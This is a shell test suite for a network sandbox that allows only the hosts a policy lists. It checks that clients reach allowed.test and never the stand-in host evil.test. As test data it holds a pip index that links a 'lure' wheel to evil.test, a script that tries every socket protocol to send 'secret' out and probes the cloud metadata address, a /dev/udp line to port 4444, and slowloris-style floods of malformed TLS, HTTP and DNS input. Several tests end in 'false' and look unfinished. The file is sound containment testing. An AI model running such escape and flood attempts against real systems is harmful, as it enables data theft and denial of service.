# Clients and servers as distributions have them, on both sides of a policy's list of hosts: no program knows of it.
load helpers
load network

# names: dnsmasq answers for allowed.test and below, and for evil.test; $net/dnsmasq.words has each question.
names() {
	needs dnsmasq
	serve dnsmasq 127.0.0.1 53 dnsmasq -k -C /dev/null -u "$(id -un)" -g "$(id -gn)" --pid-file= --no-resolv --no-hosts \
		--listen-address=127.0.0.1 --bind-interfaces --log-queries --log-facility=- \
		--address=/allowed.test/203.0.113.1 --address=/evil.test/203.0.113.66
}

# asked NAME...: dnsmasq was asked for these and no others.
asked() {
	local got
	got=$(sed -nE 's/.* query\[[^]]*\] ([^ ]+) from .*/\1/p' "$net/dnsmasq.words" | sort -u | xargs)
	[ "$got" = "$*" ] || fail "names asked for: $got, expected: $*"
}

# web: nginx has $net/www at 80 and 443, and writes what it is asked for to $net/access.
web() {
	needs nginx openssl
	mkdir -p "$net/tmp"
	cat >"$net/nginx.conf" <<-END
		daemon off; master_process off; pid $net/nginx.pid; error_log stderr;
		events { worker_connections 1024; }
		http {
			access_log $net/access; types { text/html html; } default_type application/octet-stream;
			client_body_temp_path $net/tmp/1; proxy_temp_path $net/tmp/2; fastcgi_temp_path $net/tmp/3;
			uwsgi_temp_path $net/tmp/4; scgi_temp_path $net/tmp/5;
			server {
				listen 80 backlog=1024; listen 443 ssl backlog=1024; root $net/www; autoindex on;
				ssl_certificate $net/cert.pem; ssl_certificate_key $net/key.pem;
			}
		}
	END
	serve nginx 203.0.113.1 443 nginx -p "$net" -e stderr -c "$net/nginx.conf"
	cp "$net/ca.pem" .
	echo found >"$net/www/file"
}

# repository: a commit on main in $net/www/r.git, which both ways of cloning find.
repository() {
	git init -q -b main "$top/r"
	echo content >"$top/r/file"
	git -C "$top/r" add file
	git -C "$top/r" -c user.name=t -c user.email=t@t.test commit -q -m one
	git clone -q --bare "$top/r" "$net/www/r.git"
	git -C "$net/www/r.git" update-server-info
}

@test "A67: curl, wget and Python, from nginx and by names from dnsmasq, with no proxy and no variable" {
	needs landlock curl wget
	internet 53 80 443
	names
	web
	allow allowed.test
	cat >fetch.py <<-'END'
		import asyncio, os, ssl, urllib.request
		assert not [name for name in os.environ if "proxy" in name.lower()]
		tls = ssl.create_default_context(cafile="ca.pem")
		for scheme in "http", "https":
		    context = tls if scheme == "https" else None
		    print("urllib", urllib.request.urlopen(scheme + "://allowed.test/file", timeout=20, context=context).read())
		async def fetch():
		    reader, writer = await asyncio.open_connection("allowed.test", 443, ssl=tls)
		    writer.write(b"GET /file HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")
		    print("asyncio", (await reader.read()).splitlines()[-1])
		asyncio.run(asyncio.wait_for(fetch(), 20))
	END
	box -- sh -c 'for s in http https; do
		curl -sS --cacert ca.pem $s://allowed.test/file && wget -q -O - --ca-certificate=ca.pem $s://allowed.test/file
	done; python3 -I fetch.py'
	want_exit 0 $'found\nfound\nfound\nfound\nurllib b\'found\\n\'\nurllib b\'found\\n\'\nasyncio b\'found\''
	want '.violations == []' '.stderr == ""'
	carried allowed.test 80 3
	carried allowed.test 443 4
	[ "$(grep -c 'GET /file HTTP/1.1" 200' "$net/access")" = 7 ]
	asked allowed.test
	# What is not listed: nobody is asked, and by its address nobody is reached.
	box -- sh -c 'curl -sS http://evil.test/file; echo $?; wget -q -T 5 -t 1 -O - http://evil.test/file; echo $?
		curl -sS http://203.0.113.66/file; echo $?; curl -sS http://203.0.113.1/file; echo $?'
	want_exit 0
	want '.stdout | test("^6\n4\n(7|35|52|56)\n(7|35|52|56)\n$")'
	asked allowed.test
	[ "$(wc -l <"$net/access")" = 7 ]
}

@test "A67: git clones over https from nginx and over ssh from OpenSSH's server" {
	needs landlock git ssh sshd
	internet 22 80 443
	web
	repository
	ssh-keygen -q -t ed25519 -N '' -f "$net/host"
	ssh-keygen -q -t ed25519 -N '' -f key
	cat >"$net/sshd.conf" <<-END
		Port 22
		HostKey $net/host
		AuthorizedKeysFile $net/authorized
		StrictModes no
		UsePAM no
		PidFile none
		PermitRootLogin prohibit-password
	END
	cp key.pub "$net/authorized"
	echo "allowed.test $(cat "$net/host.pub")" >known
	# The place that the package's script makes at the machine's start, and that root's server wants.
	local begin='exec /usr/sbin/sshd -D -e -f "$0"'
	[ "$(id -u)" != 0 ] || begin="mount -t tmpfs none /run && mkdir /run/sshd && $begin"
	[ "$(id -u)" != 0 ] || set -- unshare -m
	serve sshd 203.0.113.1 22 "$@" sh -c "$begin" "$net/sshd.conf"
	allow '"allowed.test:443", "allowed.test:22"'
	box -e GIT_SSL_CAINFO="$PWD/ca.pem" -e "GIT_SSH_COMMAND=ssh -F none -i key -o UserKnownHostsFile=known -o BatchMode=yes" \
		-e "from=$(id -un)@allowed.test$net" -- sh -c 'git clone -q https://allowed.test/r.git /tmp/a && cat /tmp/a/file &&
			git clone -q "ssh://$from/www/r.git" /tmp/b && git -C /tmp/b log --format=%s'
	want_exit 0 $'content\none'
	want '.violations == []'
	carried allowed.test 22 1
	want '[.network[] | select(.port == 443)][0].connections > 0'
	grep -q 'Accepted publickey' "$net/sshd.words"
}

@test "A67: Node's fetch and s_client, from s_server" {
	needs landlock node openssl
	internet 443
	serve s_server 203.0.113.1 443 openssl s_server -quiet -accept 443 -cert "$net/cert.pem" -key "$net/key.pem" -www
	cp "$net/ca.pem" .
	allow allowed.test:443
	box -e NODE_EXTRA_CA_CERTS="$PWD/ca.pem" -- node -e 'fetch("https://allowed.test/").then(async r =>
		console.log(r.status, (await r.text()).includes("s_server")), e => console.log(e.cause))'
	want_exit 0 '200 true'
	carried allowed.test 443 1
	box -- sh -c "printf 'GET / HTTP/1.0\r\n\r\n' | openssl s_client -quiet -connect allowed.test:443 -servername allowed.test \
		-CAfile ca.pem -verify_return_error -verify_hostname allowed.test"
	want_exit 0
	want '.stdout | contains("s_server")' '.violations == []'
	box -e NODE_EXTRA_CA_CERTS="$PWD/ca.pem" -- node -e 'fetch("https://evil.test/").catch(e => console.log(e.cause.code))'
	want_exit 0 ENOTFOUND
	refused dns evil.test not_listed
}

@test "A67: Java's URLConnection" {
	needs landlock java ecj keytool openssl
	internet
	keytool -importcert -noprompt -alias test -file "$net/ca.pem" -keystore trust -storetype PKCS12 -storepass changeit 2>&1
	cat >Ask.java <<-'END'
		public class Ask {
			public static void main(String[] args) throws Exception {
				for (String arg : args) {
					java.net.URLConnection c = new java.net.URL(arg).openConnection();
					c.setConnectTimeout(20000);
					c.setReadTimeout(20000);
					try {
						System.out.print(new String(c.getInputStream().readAllBytes()));
					} catch (java.net.UnknownHostException e) {
						System.out.println("no name");
					}
				}
			}
		}
	END
	ecj -proc:none -source 11 -target 11 Ask.java
	allow allowed.test
	box -- java -Xmx64m -XX:TieredStopAtLevel=1 -Djavax.net.ssl.trustStore=trust -Djavax.net.ssl.trustStorePassword=changeit \
		-cp . Ask http://allowed.test/j https://allowed.test/k https://evil.test/l
	want_exit 0 $'GET /j allowed.test\nGET /k allowed.test\nno name'
	carried allowed.test 80 1
	carried allowed.test 443 1
	refused dns evil.test not_listed
	not_logged evil
}

@test "A67: Go's net/http in a static program, which looks names up by itself" {
	needs landlock go openssl
	internet
	cat >ask.go <<-'END'
		package main

		import (
			"crypto/tls"
			"crypto/x509"
			"errors"
			"io"
			"net"
			"net/http"
			"os"
			"time"
		)

		func main() {
			pem, _ := os.ReadFile("ca.pem")
			pool := x509.NewCertPool()
			pool.AppendCertsFromPEM(pem)
			client := http.Client{Timeout: 20 * time.Second,
				Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool}}}
			for _, url := range os.Args[1:] {
				answer, err := client.Get(url)
				var dns *net.DNSError
				if errors.As(err, &dns) && dns.IsNotFound {
					println("no name")
				} else if err != nil {
					println(err.Error())
				} else {
					io.Copy(os.Stdout, answer.Body)
				}
			}
		}
	END
	env HOME="$top" GOCACHE="$top/go" GOTOOLCHAIN=local GO111MODULE=off CGO_ENABLED=0 go build -ldflags='-s -w' -o ask ask.go
	not ldd ask
	cp "$net/ca.pem" .
	allow allowed.test
	box -- ./ask http://allowed.test/g https://allowed.test/h https://evil.test/i
	want_exit 0 $'GET /g allowed.test\nGET /h allowed.test'
	want '.stderr == "no name\n"'
	carried allowed.test 80 1
	carried allowed.test 443 1
	refused dns evil.test not_listed
	not_logged evil
}

@test "A67: pip downloads a wheel from an index, and nothing that the index points to elsewhere" {
	needs landlock pip3
	internet 53 80 443
	names
	web
	mkdir -p "$net/www/simple/small" "$net/www/simple/lure"
	"$python" -I - "$net/www/simple" <<-'END'
		import sys, zipfile
		for name in "small", "lure":
		    with zipfile.ZipFile(f"{sys.argv[1]}/{name}/{name}-1.0-py3-none-any.whl", "w") as wheel:
		        wheel.writestr(f"{name}.py", "print(6 * 7)\n")
		        info = f"{name}-1.0.dist-info/"
		        wheel.writestr(info + "METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")
		        wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
		        wheel.writestr(info + "RECORD", "")
	END
	echo '<a href="small-1.0-py3-none-any.whl">small-1.0-py3-none-any.whl</a>' >"$net/www/simple/small/index.html"
	echo '<a href="https://evil.test/lure-1.0-py3-none-any.whl">lure-1.0-py3-none-any.whl</a>' >"$net/www/simple/lure/index.html"
	allow allowed.test:443
	local pip='pip3 --disable-pip-version-check --cert ca.pem --no-cache-dir --retries 0 --timeout 20 download -q --no-deps -d /tmp'
	box -- sh -c "$pip --index-url https://allowed.test/simple/ small && sha256sum </tmp/small-1.0-py3-none-any.whl"
	want_exit 0
	want ".stdout | contains(\"$(sha256sum <"$net/www/simple/small/small-1.0-py3-none-any.whl" | cut -c1-64)\")" '.violations == []'
	box -- sh -c "$pip --index-url https://allowed.test/simple/ lure"
	want '.exit_code != 0'
	refused dns evil.test not_listed
	asked allowed.test
}

@test "C11: 200 transfers through TLS at once from nginx, each whole" {
	needs landlock curl
	internet quiet 80 443
	web
	head -c 300000 /dev/urandom >"$net/www/some"
	allow allowed.test:443
	local want
	want=$(sha256sum <"$net/www/some" | cut -c1-64)
	box --wall 100s -- sh -c 'curl -sS --http1.1 --cacert ca.pem -Z --parallel-immediate --parallel-max 200 \
		-o "/tmp/some.#1" "https://allowed.test/some?[1-200]" && sha256sum /tmp/some.* | cut -c1-64 | sort | uniq -c'
	want_exit 0
	want ".stdout | test(\"^ *200 $want\\n\$\")" '.violations == []' \
		'[.network[] | select(.host == "allowed.test")] | length == 1 and .[0].connections >= 100 and .[0].received_bytes > 60000000'
}

@test "C11: a GiB from nginx through TLS, byte for byte, in bounded time" {
	needs landlock curl
	internet quiet 80 443
	web
	local want
	openssl enc -aes-128-ctr -K 0 -iv 0 2>/dev/null < <(head -c 1G /dev/zero) | tee "$net/www/big" | sha256sum >"$top/digest"
	want=$(cut -c1-64 "$top/digest")
	allow allowed.test:443
	box --wall "$(slow 120)s" -- sh -c '{ curl -sS --cacert ca.pem https://allowed.test/big || echo cut; } | sha256sum'
	rm "$net/www/big"
	want_exit 0 "$want  -"
	want '[.network[] | select(.port == 443)][0] | .connections == 1 and .received_bytes >= 1073741824 and .sent_bytes < 100000'
}

@test "B43: of all protocols that a program can name, not one packet leaves but for what is listed" {
	needs landlock
	internet
	allow '"allowed.test:22", "10.1.2.3:5432"'
	cat >leave.py <<-'END'
		import errno, itertools, socket, struct, sys
		tried, calls = 0, set()
		def attempt(call, *args):
		    try:
		        return call(*args)
		    except OSError as e:
		        calls.add(errno.errorcode.get(e.errno, str(e.errno)))
		# Whatever socket there is, to each of these.
		places = [("203.0.113.1", port) for port in (0, 22, 53, 80, 443)] + [("10.1.2.3", 80), ("203.0.113.66", 22), ("255.255.255.255", 9),
		    ("224.0.0.1", 22), ("169.254.169.254", 80), ("9.9.9.9", 53), ("127.0.0.1", 80), ("198.18.0.0", 22), ("198.19.255.255", 22)]
		places6 = [(a, p) for a in ("2001:db8::1", "ff02::1", "::1", "64:ff9b::a01:203") for p in (22, 53, 80)]
		echo = bytes.fromhex("0800f7ff00000000")
		header = bytes.fromhex("4500001c00010000400100000a010203cb007101")
		for family, to in (socket.AF_INET, places), (socket.AF_INET6, places6):
		    for kind, proto in itertools.product((1, 2, 3, 4, 5, 6, 10), (0, 1, 2, 6, 17, 33, 47, 50, 58, 89, 132, 136, 255, 256, 262)):
		        if kind == 1 and proto in (0, 6, 262):
		            continue  # TCP: below
		        for place in to:
		            s = attempt(socket.socket, family, kind, proto)
		            if not s:
		                break
		            tried += 1
		            s.settimeout(0.2)
		            attempt(s.setsockopt, 1, 6, 1)
		            attempt(s.sendto, header + echo if kind == 3 and proto == 255 else echo, place)
		            s.close()
		# By stream where nothing is listed, with data in the first packet too.
		for family, place in [(socket.AF_INET, p) for p in places if p != ("203.0.113.1", 22)] + [(socket.AF_INET6, p) for p in places6]:
		    for proto, first in (0, False), (0, True), (132, False), (262, False):
		        s = attempt(socket.socket, family, 1, proto)
		        if s:
		            tried += 1
		            s.settimeout(0.2)
		            attempt(s.sendto, b"secret", 0x20000000, place) if first else attempt(s.connect, place) or attempt(s.sendall, b"secret")
		            s.close()
		for name in "evil.test", "notallowed.test", "x.allowed.test", "allowed.test.evil.test", "corp.test", "alone":
		    attempt(socket.getaddrinfo, name, 22)
		print(tried > 100, sorted(calls))
		# Other families: none that leads out of the box can be had or used.
		for family, kind, proto in (17, 3, 0x300), (17, 2, 0x300), (40, 1, 0), (40, 2, 0), (29, 3, 1), (31, 3, 1), (38, 5, 0), (44, 3, 0), (21, 5, 0), (30, 1, 0):
		    s = attempt(socket.socket, family, kind, proto)
		    if s:
		        print("there is", family, kind)
		s = attempt(socket.socket, 16, 3, 0)
		if s:  # a route out of the box, and another address
		    for kind, body in (24, struct.pack("BBBBBBBBI", 2, 0, 0, 0, 254, 4, 0, 1, 0)), (20, struct.pack("BBBBI", 2, 24, 0, 0, 1) + struct.pack("HH4s", 8, 2, b"\xcb\0\x71\1")):
		        s.sendto(struct.pack("IHHII", 16 + len(body), kind, 0x505, 1, 0) + body, (0, 0))
		        answer = s.recv(4096)
		        print("netlink", struct.unpack("=Hi", answer[4:6] + answer[16:20]) if len(answer) >= 20 else answer)
	END
	box -- python3 -I -S leave.py
	want_exit 0
	want '.stdout | startswith("True ")' '.stdout | contains("there is") | not' '.stdout | contains("netlink (2, 0)") | not'
	want '.violations | length > 0'
	none_left
	not_logged .
	# The same counter sees what is listed, and that alone; and an attempt from outside of a box.
	box -- sh -c 'exec 3<>/dev/null; python3 -I -S -c "import socket as s
for at in (\"allowed.test\", 22), (\"10.1.2.3\", 5432): print(s.create_connection(at, 20).recv(20))"'
	want_exit 0 $'b\'SSH-2.0-test\\r\\n\'\nb\'database\\n\''
	local listed='((203\.0\.113\.1|2001:db8::1) 22|10\.1\.2\.3 5432)'
	none_left "^tcp .* $listed$|^tcp $listed |^udp 127\.0\.0\.1 53 127\.0\.0\.1 |^udp .* 127\.0\.0\.1 53$"
	grep -qE '^tcp .* (203.0.113.1|2001:db8::1) 22$' "$net/passed"
	grep -qE '^tcp .* 10.1.2.3 5432$' "$net/passed"
	there bash -c 'echo >/dev/udp/203.0.113.66/4444'
	all_passed
	grep -qE '^udp .* 203.0.113.66 4444$' "$net/passed"
}

@test "D: whatever comes slowly, endlessly, in pieces or never is ended in time, and holds up nobody else" {
	needs landlock openssl
	internet quiet
	cp "$net/ca.pem" .
	allow allowed.test
	cat >hostile.py <<-'END'
		import os, random, socket, ssl, struct, threading, time
		ends, began = {}, time.monotonic()
		question = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\7allowed\4test\0\0\1\0\1"
		framed = struct.pack(">H", len(question)) + question
		def hello(name):
		    out = ssl.MemoryBIO()
		    o = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), out, server_hostname=name)
		    try:
		        o.do_handshake()
		    except ssl.SSLWantReadError:
		        return out.read()
		def end(name, s, send=None, slowly=0, shut=False):
		    """How it ended: with what, after how many bytes and seconds."""
		    n = 0
		    try:
		        for piece in send or ():
		            s.sendall(piece)
		            n += len(piece)
		            time.sleep(slowly)
		        if shut:
		            s.shutdown(socket.SHUT_WR)
		        s.settimeout(100)
		        how = "data" if s.recv(65536) else "end"
		    except TimeoutError:
		        how = "hangs"
		    except OSError:
		        how = "reset"
		    ends.setdefault(name, []).append((how, n, time.monotonic() - began))
		    s.close()
		def to(port):
		    return socket.create_connection(("127.0.0.1" if port == 53 else "allowed.test", port), 100)
		def bytewise(data):
		    return [data[i:i + 1] for i in range(len(data))]
		def endless(first, more):
		    yield first
		    while True:
		        yield more
		cases = []
		def case(name, port, times=1, **how):
		    for _ in range(times):
		        cases.append(threading.Thread(target=lambda: end(name, to(port), **how)))
		whole = hello("allowed.test")
		# A greeting that says it has 16 MiB, in records that never end; a head with fields that never end.
		record = b"\x16\3\1\x40\0"
		case("tls bytewise", 443, send=bytewise(whole), slowly=0.005)
		case("tls part", 443, 20, send=[whole[:100]])
		case("tls endless", 443, send=endless(record + b"\1\xff\xff\xff\3\3" + b"a" * 16378, record + b"a" * 16384))
		case("tls drops", 443, send=endless(whole[:9], b""), slowly=0.5)
		case("tls half", 443, send=[whole[:100]], shut=True)
		case("http bytewise", 80, send=bytewise(b"GET / HTTP/1.0\r\nHost: allowed.test\r\n\r\n"), slowly=0.005)
		case("http part", 80, 20, send=[b"GET / HTTP/1.0\r\nHost: allowed.te"])
		case("http endless", 80, send=endless(b"GET / HTTP/1.0\r\n", b"X: y\r\n" * 1000))
		case("http line", 80, send=endless(b"GET /", b"a" * 8192))
		case("http slow", 80, send=endless(b"GET / HTTP/1.0\r\n", b"X: y\r\n"), slowly=0.5)
		case("http half", 80, send=[b"GET / HTTP/1.0\r\nHo"], shut=True)
		case("dns bytewise", 53, send=bytewise(framed), slowly=0.005)
		case("dns part", 53, 80, send=[framed[:7]])
		case("dns endless", 53, send=endless(b"\xff\xff", b"\xff" * 65535))
		case("dns half", 53, send=[framed], shut=True)
		case("dns short", 53, send=[b"\0\0" * 100 + b"\0\1a"], shut=True)
		random.seed(1)
		u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
		def noise():
		    for i in range(3000):
		        data = bytearray(question + os.urandom(i % 600) if i % 2 else question)
		        for _ in range(3):
		            data[random.randrange(len(data))] = random.randrange(256)
		        try:
		            u.sendto(data[:random.randrange(len(data) + 1)], ("127.0.0.1", 53))
		        except OSError:
		            pass
		cases.append(threading.Thread(target=noise))
		for t in cases:
		    t.start()
		# Meanwhile, and after it, others are served.
		context, worst, served = ssl.create_default_context(cafile="ca.pem"), 0, 0
		def good():
		    s = socket.create_connection(("allowed.test", 443), 60)
		    with context.wrap_socket(s, server_hostname="allowed.test") as t:
		        t.sendall(b"GET /good HTTP/1.0\r\nHost: allowed.test\r\n\r\n")
		        assert b"200" in t.recv(100)
		while True:
		    alive, start = any(t.is_alive() for t in cases), time.monotonic()
		    good()
		    worst, served = max(worst, time.monotonic() - start), served + 1
		    if not alive:
		        break
		    time.sleep(0.2)
		for name, list in sorted(ends.items()):
		    print(name, *sorted({how for how, _, _ in list}), max(n for _, n, _ in list), *(round(f(t for _, _, t in list)) for f in (min, max)), sep="|")
		print("good", served > 3, round(worst), sep="|")
	END
	box --wall "$(slow 150)s" -- python3 -I -S hostile.py
	want_exit 0
	jq -r .stdout "$result" >&2
	false
}

@test "D: the gateway is stopped: nothing opens, each limit holds, and the result comes" {
	needs landlock
	internet
	mkdir "$top/out"
	policy_is <<-END
		network: {allow: [allowed.test]}
		filesystem: {write: ["$top/out"]}
	END
	cat >still.py <<-END
		import os, socket, sys, time
		def attempt(call, *args):
		    try:
		        return call(*args)
		    except OSError as e:
		        return type(e).__name__
		first = socket.gethostbyname("allowed.test")
		open("$top/out/there", "w").close()
		while not os.path.exists("$top/out/stopped"):
		    time.sleep(0.02)
		s = socket.create_connection((first, 80), 2)
		s.sendall(b"GET /secret HTTP/1.0\r\nHost: allowed.test\r\n\r\n")
		print(attempt(s.recv, 100), attempt(socket.create_connection, ("203.0.113.66", 80), 2) is None, flush=True)
		if sys.argv[1] == "stays":
		    time.sleep(100)
	END
	local way
	for way in stays ends; do
		rm -f "$top/out/"*
		began=$(date +%s%3N)
		in_background --wall 8s -- python3 -I -S still.py "$way"
		until_there "$top/out/there"
		find_gateway
		kill -STOP "$gateway"
		touch "$top/out/stopped"
		code=0
		wait "$runner" || code=$?
		took_ms=$(($(date +%s%3N) - began))
		echo "$way $code $took_ms $(cat "$result")" >&2
		kill -0 "$gateway" 2>/dev/null && echo "gateway is there: $(grep State /proc/$gateway/status)" >&2
	done
	all_passed
	cat "$net/passed" >&2
	false
}

@test "D: the gateway is killed in the midst of a transfer, the look-up program between two names" {
	needs landlock curl
	internet
	mkdir "$top/out"
	policy_is <<-END
		network: {allow: [allowed.test, plain.test, "a.allowed.test"]}
		filesystem: {write: ["$top/out"]}
	END
	cat >two.sh <<-END
		getent ahostsv4 allowed.test >/dev/null && touch "$top/out/there"
		until [ -e "$top/out/go" ]; do sleep 0.02; done
		curl -sS http://plain.test/again
		curl -sS -o "$top/out/much" http://allowed.test/size/100000000000; echo \$?
		getent hosts a.allowed.test; echo \$?
	END
	in_background --wall 60s -- sh two.sh
	until_there "$top/out/there"
	find_gateway
	kill -KILL "$(pgrep -P "$runner" -x agentbox-resolv)"
	touch "$top/out/go"
	until_there "$top/out/much"
	kill -KILL "$gateway"
	code=0
	wait "$runner" || code=$?
	cat "$result" >&2
	false
}

@test "D: with few descriptors a box has fewer connections, or does not begin; and the result tells" {
	needs landlock
	internet quiet
	allow allowed.test:80
	cat >many.py <<-'END'
		import socket, threading
		ok = []
		def ask():
		    s = socket.create_connection(("allowed.test", 80), 50)
		    s.settimeout(50)
		    s.sendall(b"GET /size/1000 HTTP/1.0\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")
		    data = b""
		    while d := s.recv(65536):
		        data += d
		    ok.append(data.endswith(bytes(1000)))
		threads = [threading.Thread(target=ask) for _ in range(8)]
		for t in threads:
		    t.start()
		for t in threads:
		    t.join()
		print(len(ok), all(ok))
	END
	local files all=$AGENTBOX
	for files in 8 10 12 14 16 20 24 28 32 40 64 256; do
		printf '#!/bin/sh\nulimit -n %s && exec %q "$@"\n' "$files" "$all" >"$top/few"
		chmod 755 "$top/few"
		AGENTBOX=$top/few
		policy_is <<<"network: {allow: [\"allowed.test:80\"]}"; echo "limits: {open_files: $files}" >>"$policy"
		box --wall 60s -- python3 -I -S many.py || echo "no result: $code"
		echo "$files: $code $took_ms ms $(jq -c '[.status, .stdout, .stderr[-200:], .error, .warnings]' "$result") $(cat $words)" >&2
	done
	false
}
